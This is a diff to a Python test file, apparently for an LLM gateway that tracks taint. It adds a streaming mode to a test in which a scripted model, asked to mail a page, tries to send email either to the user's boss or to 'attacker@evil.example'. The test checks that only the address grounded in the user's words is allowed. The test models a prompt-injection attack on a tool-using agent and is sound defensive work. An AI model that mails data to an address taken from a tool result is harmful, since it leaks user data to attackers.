@@ -47,22 +47,36 @@ def _messages(wire: str) -> list[dict[str, Any]]:
     ]
 
 
-async def turn_facts(app: Starlette, wire: str, trace: str) -> dict[str, Any]:
-    """The gateway's ``fak`` facts of the turn that asks to mail the page (``_messages``)."""
-    r = await post_turn(app, wire, {"model": "m", "messages": _messages(wire)}, trace)
+async def turn_facts(app: Starlette, wire: str, trace: str, stream: bool = False) -> dict[str, Any]:
+    """The gateway's ``fak`` facts of the turn that asks to mail the page (``_messages``),
+    buffered or streamed (the record then rides on the stream's last events)."""
+    doc: dict[str, Any] = {"model": "m", "messages": _messages(wire)}
+    if stream:
+        doc["stream"] = True
+    r = await post_turn(app, wire, doc, trace)
     assert r.status_code == 200, r.text
-    return dict(json.loads(r.text)["fak"])
+    if not stream:
+        assert r.headers["content-type"].startswith("application/json"), r.headers
+        return dict(json.loads(r.text)["fak"])
+    assert r.headers["content-type"].startswith("text/event-stream"), r.headers
+    events = [json.loads(ln[6:]) for ln in r.text.splitlines() if ln.startswith("data: {")]
+    records = [e["fak"] for e in events if "fak" in e]
+    assert len(records) == 1, r.text
+    return dict(records[0])
 
 
+@pytest.mark.parametrize("stream", [False, True])
 @pytest.mark.parametrize("wire", ["openai", "anthropic"])
 @pytest.mark.fak_theorem("C4.6")
-def test_the_proxies_ground_the_users_words_and_never_a_tool_result(wire: str) -> None:
+def test_the_proxies_ground_the_users_words_and_never_a_tool_result(
+    wire: str, stream: bool
+) -> None:
     _STATE.kernel.set_policy(POLICY)
     verdicts = {}
     for to in ("boss@corp.example", "attacker@evil.example"):
         _UPSTREAM.reset(Script(calls=[("send_email", {"to": to, "body": "the summary"})]))
         trace = f"ground-{wire}-{uuid.uuid4().hex[:8]}"
-        fak = asyncio.run(turn_facts(_APP, wire, trace))
+        fak = asyncio.run(turn_facts(_APP, wire, trace, stream))
         assert _STATE.kernel.taint(trace).label == "tainted"
         verdicts[to] = fak["adjudications"][0]["verdict"]
     assert verdicts["boss@corp.example"]["kind"] == "ALLOW"
